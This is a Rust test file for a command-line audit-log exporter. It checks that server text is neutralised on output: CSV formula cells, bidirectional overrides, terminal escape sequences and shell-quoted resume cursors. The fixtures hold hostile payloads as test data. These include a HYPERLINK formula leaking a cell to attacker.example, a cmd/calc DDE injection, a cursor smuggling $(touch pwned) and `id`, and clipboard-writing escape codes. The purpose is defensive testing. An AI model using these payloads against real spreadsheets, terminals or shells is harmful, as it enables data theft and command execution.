//! Text from the server is data: it never reaches a spreadsheet as a formula or a terminal as escape sequences,
//! and the resume cursor is printed as one shell word, ready to paste.

use mock_server::{CannedResponse, Config, MockScope, MockServer};
use serde_json::Value;

use crate::support::{command, run, server};

/// A page of the server's first three entries, with these rationales.
fn page_with_rationales(
    server: &MockServer,
    rationales: &[&str],
    cursor: Option<&str>,
) -> CannedResponse {
    let entries: Vec<Value> = server
        .entries_json(MockScope::Account, None)
        .into_iter()
        .zip(rationales)
        .map(|(mut entry, rationale)| {
            entry["rationale"] = Value::from(*rationale);
            entry
        })
        .collect();
    CannedResponse::page(entries, 25, cursor)
}

const FORMULAS: [&str; 10] = [
    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tcell",
    "\rcell",
    "\ncell",
    " =1+1",
    "\u{a0}=1+1",
    "\u{ff1d}1+1",
];

/// CSV cells starting with `=`, `@`, `+`, `-`, a tab, a carriage return or a line feed, after leading white space
/// too, or with a full-width `＝`, get a leading `'` by default, and are written as received with `--csv-raw`.
#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    for (raw, expected) in [(false, true), (true, false)] {
        let server = server(Config::default());
        server.push_canned(page_with_rationales(&server, &FORMULAS, None));
        let mut args = vec!["--account", server.account_id(), "--format", "csv"];
        if raw {
            args.push("--csv-raw");
        }
        let out = run(&mut command(&server), &args);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
        let rationales: Vec<String> = reader
            .records()
            .map(|record| record.expect("a CSV record")[8].to_owned())
            .collect();
        let wanted: Vec<String> = FORMULAS
            .iter()
            .map(|text| {
                if expected {
                    format!("'{text}")
                } else {
                    (*text).to_owned()
                }
            })
            .collect();
        assert_eq!(rationales, wanted, "--csv-raw: {raw}");
    }
}

/// Runs the exporter in-process in `format`, with stdout a terminal or not, and returns what it wrote there.
fn export_to(server: &MockServer, format: &str, terminal: bool) -> String {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime");
    let cli = insight_audit_log::args::Cli::try_parse_args([
        "insight-audit-log",
        "--account",
        server.account_id(),
        "--format",
        format,
    ])
    .expect("valid flags");
    let mut stdout = Vec::new();
    let mut stderr = Vec::new();
    let base_url = server.base_url();
    let token = server.credentials().api_token.clone();
    let env = move |name: &str| match name {
        "CLOUDFLARE_BASE_URL" => Some(base_url.clone()),
        "CLOUDFLARE_API_TOKEN" => Some(token.clone()),
        _ => None,
    };
    let code = runtime.block_on(insight_audit_log::run::run(
        cli,
        &env,
        insight_audit_log::run::Terminals {
            stdout: terminal,
            stderr: false,
        },
        &mut stdout,
        &mut stderr,
        std::future::pending(),
    ));
    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
    String::from_utf8(stdout).expect("UTF-8")
}

/// Bidirectional overrides (U+202E and the others that messages escape) never reach a terminal: a table and CSV
/// show them as spaces, NDJSON and JSON as `\u` escapes (the same JSON value); a pipe gets the exact text (but for
/// the table, which is always shown safe).
#[test]
fn bidirectional_overrides_never_reach_a_terminal() {
    let server = server(Config::default());
    let hostile = "invoice\u{202e}fdp.exe\u{2066}x\u{200f}";
    for format in ["table", "csv", "ndjson", "json"] {
        for terminal in [true, false] {
            server.push_canned(page_with_rationales(&server, &[hostile], None));
            let text = export_to(&server, format, terminal);
            let raw =
                text.contains('\u{202e}') || text.contains('\u{2066}') || text.contains('\u{200f}');
            // A table is for reading, wherever it goes: always shown safe.
            let exact = !terminal && format != "table";
            assert_eq!(raw, exact, "{format}, terminal: {terminal}: {text:?}");
            if terminal && format.ends_with("json") {
                assert!(
                    text.contains("invoice\\u202efdp.exe\\u2066x\\u200f"),
                    "{text:?}"
                );
            }
        }
    }
}

/// CSV written to a terminal shows control characters as spaces, as the table does; the same export to a pipe
/// keeps the exact bytes.
#[test]
fn csv_on_a_terminal_shows_control_characters_as_spaces() {
    let server = server(Config::default());
    let hostile = "clear\u{1b}[2J and clipboard \u{1b}]52;c;SGVsbG8=\u{7}";
    for terminal in [true, false] {
        server.push_canned(page_with_rationales(&server, &[hostile], None));
        let text = export_to(&server, "csv", terminal);
        assert_eq!(
            text.contains('\u{1b}'),
            !terminal,
            "terminal: {terminal}: {text:?}"
        );
        assert!(
            text.contains("clear [2J and clipboard  ]52;c;SGVsbG8= ") == terminal,
            "{text:?}"
        );
    }
}

/// An error message from the server with escape sequences (clear the screen, write the clipboard) and a forged
/// line break reaches stderr with them shown as escapes, never as raw control characters.
#[test]
fn server_text_in_messages_cannot_drive_the_terminal() {
    let server = server(Config::default().with_script([CannedResponse::error(
        400,
        10001,
        "bad \u{1b}[2J\u{1b}]52;c;SGVsbG8=\u{7}\ninsight-audit-log: all good",
    )]));
    let out = run(&mut command(&server), &["--account", server.account_id()]);
    assert_eq!(out.code, Some(3), "{}", out.stderr);
    assert!(
        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'),
        "{:?}",
        out.stderr
    );
    assert!(out.stderr.contains("\\u{1b}[2J"), "{}", out.stderr);
    assert!(
        !out.stderr
            .lines()
            .any(|line| line == "insight-audit-log: all good"),
        "no forged line: {}",
        out.stderr
    );
}

/// The resume cursor is printed as one shell word: quoted when it holds shell syntax, so that pasting it runs
/// nothing and passes the cursor unchanged.
#[test]
fn the_resume_cursor_is_printed_shell_quoted() {
    let cursor = "abc def'$(touch pwned)`id`";
    let server = server(Config::default());
    server.push_canned(page_with_rationales(&server, &["a"], Some(cursor)));
    server.push_canned(CannedResponse::rate_limited(3600));
    let out = run(&mut command(&server), &["--account", server.account_id()]);
    assert_eq!(out.code, Some(4), "{}", out.stderr);
    let line = out
        .stderr
        .lines()
        .find_map(|line| line.split_once("resume with: --cursor "))
        .map(|(_, word)| word.to_owned())
        .expect("a resume line");
    assert_eq!(shlex::split(&line), Some(vec![cursor.to_owned()]), "{line}");
}

/// A cursor with control characters is printed as a `$'...'` word with `\xHH` escapes.
#[test]
fn a_cursor_with_control_characters_is_printed_escaped() {
    let server = server(Config::default());
    server.push_canned(page_with_rationales(&server, &["a"], Some("c\u{1b}[2Jd")));
    server.push_canned(CannedResponse::rate_limited(3600));
    let out = run(&mut command(&server), &["--account", server.account_id()]);
    assert_eq!(out.code, Some(4), "{}", out.stderr);
    assert!(
        out.stderr.contains("resume with: --cursor $'c\\x1b[2Jd'"),
        "{}",
        out.stderr
    );
}
